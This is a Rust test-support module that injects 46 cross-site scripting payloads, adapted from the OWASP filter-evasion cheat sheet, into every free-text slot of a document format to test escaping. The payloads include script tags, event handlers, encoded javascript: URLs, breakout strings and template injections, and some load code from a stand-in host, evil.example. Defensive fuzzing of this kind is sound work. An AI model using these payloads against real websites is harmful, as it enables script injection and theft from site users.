//! A book whose every free text is what an attacker would type.
//!
//! The kinds of payload are those of the OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet" (CC BY-SA 4.0), each in a
//! form of our own; the last ones try Markdown and the template language. The places are the grammar's own: every quoted
//! text, every reason after `because`, every note line of a book.

use stringline::source::Files;
use stringline::syntax::{LineKind, Shape, parse};

pub const PAYLOADS: [&str; 46] = [
    // Basic, and without quotes.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    // Malformed tags.
    "\\<a onmouseover=\"alert(1)\"\\>x\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=http://evil.example/x.js?< B >",
    "<IMG SRC=\"('XSS')\"",
    "<SCRIPT/XSS SRC=\"http://evil.example/x.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    // Handlers.
    "<img src=x onerror=\"alert(1)\">",
    "<IMG onmouseover=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    // Encodings.
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1);\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1);\">x</a>",
    "<a href=\" &#14; javascript:alert(1);\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    // Out of where they stand.
    "\\\";alert(1);//",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "</script><script>alert(1)</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</p></main></body></html><script>alert(1)</script>",
    // Other elements.
    "<iframe src=\"javascript:alert(1);\"></iframe>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<OBJECT data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></OBJECT>",
    "<LINK REL=\"stylesheet\" HREF=\"http://evil.example/x.css\">",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
    "<STYLE>@import'http://evil.example/x.css';</STYLE>",
    // Markdown and templates.
    "[x](javascript:alert(1)) [y](<jav\tascript:alert(1)>) [z](data:text/html,<script>alert(1)</script>)",
    "![x](http://evil.example/pixel.png) <http://evil.example/> <javascript:alert(1)>",
    "{{ frame.title }} {% include 'style.css' %} {# x #}",
    "{% raw %}</style>{{ [].constructor.constructor('alert(1)')() }}",
];

/// A book's files with every free text replaced; and how many there were.
pub fn typed(files: &[(String, String)], payload: &str) -> (Vec<(String, String)>, usize) {
    let source = |(path, text): &(String, String)| stringline::source::SourceFile {
        path: path.clone(),
        text: text.clone(),
    };
    let held = Files::new(files.iter().map(source).collect());
    // A text ends at its first quote, whatever stands before it.
    let quoted = format!("\"{}\"", payload.replace(['"', '\u{201C}', '\u{201D}', '\u{201E}'], "'"));
    let mut texts: Vec<(String, String)> = files.to_vec();
    let mut slots: Vec<(usize, usize, usize, String)> = Vec::new();
    for chunk in parse(&held).chunks {
        for line in &chunk.lines {
            for word in chunk.words_of(line) {
                let new = match (line.kind, word.shape) {
                    // The time in front of a note is no text.
                    (LineKind::Note, Shape::Clock) => continue,
                    (LineKind::Note, _) => payload.to_owned(),
                    (_, Shape::Text) => quoted.clone(),
                    (_, Shape::Because) => format!(" {payload}"),
                    _ => continue,
                };
                slots.push((chunk.file.0 as usize, word.start as usize, word.end() as usize, new));
            }
        }
    }
    slots.sort_by_key(|(file, start, ..)| std::cmp::Reverse((*file, *start)));
    for (file, start, end, new) in &slots {
        texts[*file].1.replace_range(start..end, new);
    }
    (texts, slots.len())
}

/// The language reference's examples: every construct there is, in one book.
pub fn reference() -> Vec<(String, String)> {
    vec![("book.sline".to_owned(), crate::reference::examples::fences("sline"))]
}

/// The demo book's files.
pub fn demo() -> Vec<(String, String)> {
    let files = &crate::demo::DEMO.files;
    files.iter().map(|(_, file)| (file.path.clone(), file.text.clone())).collect()
}
